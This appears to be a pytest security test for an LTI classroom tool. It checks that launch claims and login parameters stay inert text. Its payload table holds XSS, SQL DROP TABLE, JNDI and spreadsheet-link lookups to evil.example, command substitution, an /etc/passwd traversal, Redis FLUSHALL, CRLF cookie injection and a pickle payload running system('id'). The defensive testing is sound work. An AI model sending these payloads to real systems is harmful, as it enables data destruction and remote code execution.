"""Text that means something elsewhere, in every claim and parameter: contracts/lti.md 4.W, W21."""

import re

import pytest

from tests.attacks.seen import Markup, pages
from tests.attacks.verdict import assert_refused, cookies_of
from tests.lti_tool.classroom import fill
from tests.lti_tool.platform import LTI, launch

INJECTIONS = {
    "markup": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)",
    "SQL": "'; DROP TABLE learners; --",
    "SQL that is true": "' OR '1'='1",
    "template": "{{7*7}}{% if 1 %}x{% endif %}${7*7}#{7*7}<%= 7*7 %>",
    "LDAP": "*)(uid=*))(|(uid=*",
    "NoSQL": '{"$gt": ""}',
    "JNDI": "${jndi:ldap://evil.example/a}",
    "command": "$(id);`id`|id",
    "path": "../../../../etc/passwd\\..\\",
    "Redis": "*1\r\n$8\r\nFLUSHALL\r\n",
    "format": "%s%n{0.__class__}",
    "line breaks": "a\r\nSet-Cookie: evil=1\r\n\r\n<h1>",
    "terminal": "\x1b]0;owned\x07\x1b[31m",
    "spreadsheet": '=HYPERLINK("https://evil.example")',
    "direction": "\u202eevil\u2066",
}
TEXT_CLAIMS = ("name", "email", "given_name", "sub", "picture")
OBJECT_CLAIMS = {
    "title of the course": ("context", {"id": "ctx-1", "title": ...}),
    "label of the course": ("context", {"id": "ctx-1", "label": ...}),
    "id of the course": ("context", {"id": ...}),
    "title of the link": ("resource_link", {"id": "l", "title": ...}),
    "id of the link": ("resource_link", {"id": ...}),
    "number of the course": ("custom", {"canvas_course_id": ..., "canvas_user_id": "7"}),
    "number of the person": ("custom", {"canvas_course_id": "101", "canvas_user_id": ...}),
    "competencies": ("custom", {"canvas_course_id": "101", "waymark_competencies": ...}),
    "role": ("roles", [...]),
    "platform": ("tool_platform", {"guid": ..., "name": ...}),
}


@pytest.fixture(scope="module")
def tables(shared_stage):
    """The classroom, filled once: the attacks change nothing in it."""
    return fill(shared_stage)


def injected(shape, text):
    if isinstance(shape, dict):
        return {name: injected(value, text) for name, value in shape.items()}
    if isinstance(shape, list):
        return [injected(value, text) for value in shape]
    return text if shape is ... else shape


def assert_harmless(stage, response, browser):
    assert response.status_code in {303, 400}, response.text
    if response.status_code != 303:
        assert_refused(stage, response)
        assert Markup(response.text).runs == []
        return
    for page in pages(browser, response):
        assert page.status_code < 500
        assert Markup(page.text).runs == []
        assert "49" not in re.findall(r"\b49\b", page.text)


@pytest.mark.usefixtures("tables")
@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
@pytest.mark.parametrize("name", TEXT_CLAIMS)
def test_w21_a_claim_is_text_whatever_it_says(stage, name, text):
    browser = stage.browser()

    assert_harmless(stage, launch(browser, stage.lms, **{name: text}), browser)


@pytest.mark.usefixtures("tables")
@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
@pytest.mark.parametrize(("name", "shape"), OBJECT_CLAIMS.values(), ids=OBJECT_CLAIMS)
def test_w21_what_stands_in_a_claim_is_text_whatever_it_says(stage, name, shape, text):
    browser = stage.browser()

    response = launch(browser, stage.lms, **{name: injected(shape, text)})

    assert_harmless(stage, response, browser)


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
@pytest.mark.parametrize("name", ["iss", "client_id", "login_hint", "lti_message_hint", "foo"])
def test_w21_a_login_parameter_is_text_whatever_it_says(stage, name, text):
    response = stage.browser().post("/lti/login", data=stage.lms.login_form(**{name: text}))

    assert response.status_code in {302, 400, 404}
    assert Markup(response.text).runs == []
    assert "evil=1" not in cookies_of(response)
    assert response.headers.get("Location", "https://lms.example/auth").startswith(
        "https://lms.example/auth"
    )


def test_w23_no_claim_of_a_launch_is_ever_unpickled_or_run(stage):
    browser = stage.browser()
    payload = "cos\nsystem\n(S'id'\ntR."

    response = launch(browser, stage.lms, **{LTI + "custom": {"canvas_user_id": payload}})

    assert_harmless(stage, response, browser)
    assert all(value.startswith(b"{") for value in map(stage.container.redis.get,
               stage.keys("waymark:launch:*")))  # fmt: skip
